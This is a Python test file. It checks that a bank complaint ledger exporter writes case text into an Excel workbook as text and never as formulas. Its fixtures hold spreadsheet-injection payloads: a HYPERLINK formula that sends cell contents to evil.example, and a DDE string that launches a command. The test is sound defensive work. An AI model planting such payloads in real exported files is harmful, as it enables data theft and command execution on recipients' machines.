"""Text a teller typed into a case reaches the ledger workbook as text, never as a formula.

The hostile case is registered through the real intake form; the workbook is written by the
real exporter and read back with openpyxl, as the district branch's spreadsheet would open it.
No Qt is needed.
"""

from __future__ import annotations

import zipfile

from openpyxl import load_workbook

from db.reporting import report_data as rd
from desktop.reports import ledger
from tests.db.workflow_fixtures import T0, World, world

__all__ = ["world"]

LINK = '=HYPERLINK("http://evil.example/steal?c="&A1,"点此查看处理结果")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = {
    "客户诉求": LINK,
    "投诉内容": DDE,
    "客户姓名": "@SUM(1+1)*cmd",
}


def test_formula_text_in_a_case_is_written_as_text(world: World, tmp_path):
    world.case(
        customer_name=PAYLOADS["客户姓名"],
        remedy_requested=PAYLOADS["客户诉求"],
        description=PAYLOADS["投诉内容"],
    )
    world.case(description="+1+2 客户称多扣两元", remedy_requested="-退还手续费")
    path = tmp_path / "ledger.xlsx"
    info = ledger.LedgerInfo(outlet='=HYPERLINK("x")网点', period="2026", generated_at=T0)
    rows = list(rd.ledger_rows(year=T0.year, reveal=True))
    assert ledger.write_ledger_xlsx(rows, path, info=info) == 2

    book = load_workbook(path)  # not read-only: formulas and quote prefixes are kept
    sheet = book[ledger.SHEET_TITLE]
    header = [c.value for c in sheet[1]]
    cells = {
        (r, name): sheet.cell(row=r, column=header.index(name) + 1)
        for r in (2, 3)
        for name in ("客户姓名", "客户诉求", "投诉内容")
    }
    texts = {cell.value for cell in cells.values()}
    assert {LINK, DDE, "@SUM(1+1)*cmd", "+1+2 客户称多扣两元", "-退还手续费"} <= texts
    for cell in cells.values():
        assert cell.data_type == "s", f"{cell.coordinate} {cell.value!r} is {cell.data_type}"
    for cell in cells.values():
        if str(cell.value).startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, f"{cell.coordinate} would turn into a formula when edited"
    about = book[ledger.INFO_TITLE]
    outlet = next(row[1] for row in about.iter_rows() if row[0].value == "网点")
    assert outlet.value == '=HYPERLINK("x")网点' and outlet.data_type == "s"

    # What the spreadsheet program reads: no formula element anywhere in the package.
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
